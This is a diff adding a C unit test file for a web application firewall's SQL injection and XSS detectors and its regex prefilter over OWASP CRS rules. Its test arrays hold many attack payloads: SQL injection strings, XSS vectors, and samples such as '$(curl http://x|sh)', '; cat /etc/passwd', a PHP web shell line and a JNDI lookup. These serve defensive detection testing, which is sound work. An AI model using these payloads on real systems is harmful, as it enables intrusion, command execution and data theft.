@@ -1,0 +1,261 @@
+/*
+ * The native detectors behind @detectSQLi and @detectXSS: attack strings
+ * of the common families must be detected, and false-positive-prone
+ * prose must not; hostile bytes (NUL, invalid UTF-8, unterminated
+ * quotes and comments, very long input) must not crash them.
+ * Also the literal-factor analysis the @rx prefilter relies on: for every
+ * CRS regex it accepts, no sample string may match the regex without
+ * containing one of its factors (a violation would be a missed attack).
+ */
+#include "waf_test_util.h"
+
+#include <ctype.h>
+#include <glob.h>
+#include <stdlib.h>
+#include <strings.h>
+
+static void test_sqli_attacks(void **s)
+{
+	(void)s;
+	static const char *attacks[] = {
+		"1 UNION SELECT username, password FROM users",
+		"-1 union all select 1,2,3--",
+		"1 OR 1=1",
+		"' OR '1'='1",
+		"admin' --",
+		"1' AND '1'='1",
+		"1 AND SLEEP(5)",
+		"1 AND BENCHMARK(1000000,MD5(1))",
+		"1; DROP TABLE users--",
+		"1 ORDER BY 10--",
+		"') or ('a'='a",
+		"1/**/UNION/**/SELECT/**/1,2",
+		"1 /*!50000UNION*/ /*!50000SELECT*/ 1",
+		"1'; WAITFOR DELAY '0:0:5'--",
+		"1 and extractvalue(1,concat(0x7e,version()))",
+		"\" or \"\"=\"",
+		"x' having 1=1--",
+		"SELECT * FROM users WHERE id=1",
+		"1' union select load_file('/etc/passwd')#",
+		"@@version",
+	};
+	char fp[8];
+	for (size_t i = 0; i < BW_ARRAY_LEN(attacks); i++) {
+		if (!waf_sqli_detect(attacks[i], strlen(attacks[i]), fp)) {
+			print_error("SQLi not detected: %s\n", attacks[i]);
+			fail();
+		}
+		assert_true(strlen(fp) > 0);
+	}
+}
+
+static void test_sqli_benign(void **s)
+{
+	(void)s;
+	static const char *benign[] = {
+		"O'Reilly Media books", "don't stop me now", "rock and roll or jazz",
+		"union jack flag", "drop shipping from china", "john.doe@example.com",
+		"5 + 3 = 8", "100% cotton", "salt; pepper; oil", "iphone 13 or 14",
+		"sleep apnea treatment", "it's fine, don't worry", "Hello, World!",
+		"1,2,3,4,5", "2024-01-01T23:59:59Z", "t-shirt -- cheap", "#summer #sale",
+		"select your plan and update billing", "", "'", "\"", "--", "/*",
+		"a/b/c", "smartphone (unlocked)",
+	};
+	char fp[8];
+	for (size_t i = 0; i < BW_ARRAY_LEN(benign); i++)
+		if (waf_sqli_detect(benign[i], strlen(benign[i]), fp)) {
+			print_error("SQLi false positive: '%s' (%s)\n", benign[i], fp);
+			fail();
+		}
+}
+
+static void test_xss_attacks(void **s)
+{
+	(void)s;
+	static const char *attacks[] = {
+		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+		"<svg onload=alert(1)>", "<body onload=alert('xss')>",
+		"<iframe src=\"javascript:alert(1)\"></iframe>",
+		"<a href=\"javascript:alert(1)\">x</a>",
+		"\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
+		"<a href=\"&#106;avascript:alert(1)\">x</a>",
+		"<a href=\"java&#x09;script:alert(1)\">x</a>",
+		"<div style=\"width:expression(alert(1))\">",
+		"<ScRiPt>alert(1)</sCrIpT>", "<details open ontoggle=alert(1)>",
+		"<object data=\"javascript:alert(1)\">", "<input autofocus onfocus=alert(1)>",
+		"<meta http-equiv=\"refresh\" content=\"0;url=x\">",
+		"<math><a xlink:href=\"javascript:alert(1)\">x",
+		"<img src=\"vbscript:msgbox(1)\">", "<script", "x onload=alert(1)",
+		"<iframe srcdoc=\"&lt;script&gt;\">", "<a href=data:text/html,<b>x>",
+	};
+	for (size_t i = 0; i < BW_ARRAY_LEN(attacks); i++)
+		if (!waf_xss_detect(attacks[i], strlen(attacks[i]))) {
+			print_error("XSS not detected: %s\n", attacks[i]);
+			fail();
+		}
+}
+
+static void test_xss_benign(void **s)
+{
+	(void)s;
+	static const char *benign[] = {
+		"<b>bold</b> text", "a<b and c>d", "a < b", "1<2", "I <3 this",
+		"javascript tutorial for beginners", "He said \"hello\" online",
+		"price < 100 and rating > 4", "email me at a@b.c",
+		"<p class=\"x\">para</p>", "<a href=\"https://example.com/\">link</a>",
+		"<img src=\"/logo.png\" alt=\"logo\">", "don't 'quote' me", "",
+		"go online=now", "<", "<<>>",
+	};
+	for (size_t i = 0; i < BW_ARRAY_LEN(benign); i++)
+		if (waf_xss_detect(benign[i], strlen(benign[i]))) {
+			print_error("XSS false positive: '%s'\n", benign[i]);
+			fail();
+		}
+}
+
+static void test_detectors_hostile(void **s)
+{
+	(void)s;
+	char fp[8];
+	static const char *h[] = { "'\0' or 1=1", "\xff\xfe<scr\0ipt>", "/*", "'\"`",
+				   "<a href=\"", "<!--[if", "@@", "0x", "1e", "\\" };
+	for (size_t i = 0; i < BW_ARRAY_LEN(h); i++) {
+		(void)waf_sqli_detect(h[i], strlen(h[i]) + 1, fp);
+		(void)waf_xss_detect(h[i], strlen(h[i]) + 1);
+	}
+	size_t n = 1 << 20;
+	char *big = malloc(n);
+	assert_non_null(big);
+	for (size_t i = 0; i < n; i++)
+		big[i] = "'(<a =\"x;-- "[i % 12];
+	(void)waf_sqli_detect(big, n, fp);
+	(void)waf_xss_detect(big, n);
+	free(big);
+}
+
+/* ---------------------------------------------------- literal factors */
+
+static bool has_factor(const struct bw_str *f, size_t nf, const char *s,
+		       size_t n)
+{
+	for (size_t i = 0; i < nf; i++)
+		for (size_t k = 0; k + f[i].len <= n; k++)
+			if (strncasecmp(s + k, f[i].p, f[i].len) == 0)
+				return true;
+	return false;
+}
+
+static void test_rx_factors_units(void **s)
+{
+	(void)s;
+	struct bw_arena *a = bw_arena_new(4096, 1 << 20);
+	struct bw_str *f;
+	size_t n;
+	/* required runs */
+	assert_int_equal(waf_rx_factors("abc\\d+xyz", 9, a, &f, &n), 0);
+	assert_int_equal(n, 1);
+	assert_int_equal(f[0].len, 3);
+	/* alternation: one factor per branch */
+	assert_int_equal(waf_rx_factors("(?i)(?:union|select)\\s", 22, a, &f, &n), 0);
+	assert_int_equal(n, 2);
+	/* a branch without a literal: no prefilter at all */
+	assert_int_equal(waf_rx_factors("abc|\\d+", 7, a, &f, &n), 0);
+	assert_int_equal(n, 0);
+	/* optional parts are not required */
+	assert_int_equal(waf_rx_factors("ab?c", 4, a, &f, &n), 0);
+	assert_int_equal(n, 1);
+	assert_int_equal(f[0].len, 1);
+	/* {1,3}: at least one, not exactly one */
+	assert_int_equal(waf_rx_factors("ab{1,3}c", 8, a, &f, &n), 0);
+	assert_true(n == 1 && f[0].len == 2);
+	assert_true(has_factor(f, n, "abbbc", 5));
+	/* constructs it does not understand give up */
+	assert_int_equal(waf_rx_factors("(?x) a b", 8, a, &f, &n), 0);
+	assert_int_equal(n, 0);
+	assert_int_equal(waf_rx_factors("a(?R)b", 6, a, &f, &n), 0);
+	assert_int_equal(n, 0);
+	assert_int_equal(waf_rx_factors("(*UTF)abc", 9, a, &f, &n), 0);
+	assert_int_equal(n, 0);
+	assert_int_equal(waf_rx_factors("(?P=n)abc", 9, a, &f, &n), 0);
+	assert_int_equal(n, 0);
+	assert_int_equal(waf_rx_factors("ab(", 3, a, &f, &n), 0);
+	assert_int_equal(n, 0);
+	bw_arena_free(a);
+}
+
+/* Every CRS regex with factors: any sample it matches contains one. */
+static void test_rx_factors_sound_on_crs(void **s)
+{
+	(void)s;
+	glob_t g;
+	if (glob("/usr/share/modsecurity-crs/rules/*.conf", 0, NULL, &g) != 0) {
+		skip();
+		return;
+	}
+	globfree(&g);
+	struct waf_ruleset *rs = load_rules(
+		"Include /etc/modsecurity/crs/crs-setup.conf\n"
+		"Include /usr/share/modsecurity-crs/rules/*.conf\n");
+	static const char *samples[] = {
+		"1 UNION SELECT password FROM users", "<script>alert(1)</script>",
+		"../../etc/passwd", "; cat /etc/passwd", "() { :; }; /bin/bash",
+		"<?php system($_GET['c']); ?>", "${jndi:ldap://x/a}",
+		"java.lang.Runtime.getRuntime().exec(\"id\")", "' or '1'='1",
+		"javascript:alert(1)", "$(curl http://x|sh)", "/.git/config",
+		"%c0%af..%c0%af", "SELECT pg_sleep(5)", "document.cookie",
+		"eval(base64_decode('x'))", "php://filter/resource=x",
+		"__proto__[a]=1", "require('child_process')", "|id", "`whoami`",
+		"<img src=x onerror=alert(1)>", "1;drop table x", "a=1&b=2",
+		"Mozilla/5.0 (Nikto/2.1.6)", "sqlmap/1.7", "O:8:\"stdClass\":1:{}",
+		"@@version", "waitfor delay '0:0:5'", "having 1=1", "0x41424344",
+	};
+	size_t checked = 0, with_factors = 0;
+	for (int ph = 1; ph <= 5; ph++)
+		for (size_t i = 0; i < rs->phase[ph].n; i++)
+			for (const struct waf_rule *l = rs->phase[ph].rules[i];
+			     l && l->kind != WAF_RULE_MARKER; l = l->chain_next) {
+				if (l->op.id != WAF_OP_RX || !l->op.re)
+					continue;
+				checked++;
+				struct bw_str *f;
+				size_t nf;
+				assert_int_equal(waf_rx_factors(l->op.arg.p, l->op.arg.len,
+								rs->arena, &f, &nf), 0);
+				if (!nf)
+					continue;
+				with_factors++;
+				pcre2_match_data *md = pcre2_match_data_create(4, NULL);
+				for (size_t k = 0; k < BW_ARRAY_LEN(samples); k++) {
+					const char *x = samples[k];
+					int rc = pcre2_match(l->op.re, (PCRE2_SPTR)x,
+							     strlen(x), 0, 0, md, NULL);
+					if (rc >= 0 && !has_factor(f, nf, x, strlen(x))) {
+						print_error("rule %llu matches '%s' without "
+							    "a factor\n",
+							    (unsigned long long)
+								    l->chain_start->act.id,
+							    x);
+						fail();
+					}
+				}
+				pcre2_match_data_free(md);
+			}
+	print_message("CRS regexes: %zu, with literal factors: %zu\n", checked,
+		      with_factors);
+	assert_true(with_factors * 2 > checked);
+	waf_ruleset_free(rs);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_sqli_attacks),
+		cmocka_unit_test(test_sqli_benign),
+		cmocka_unit_test(test_xss_attacks),
+		cmocka_unit_test(test_xss_benign),
+		cmocka_unit_test(test_detectors_hostile),
+		cmocka_unit_test(test_rx_factors_units),
+		cmocka_unit_test(test_rx_factors_sound_on_crs),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
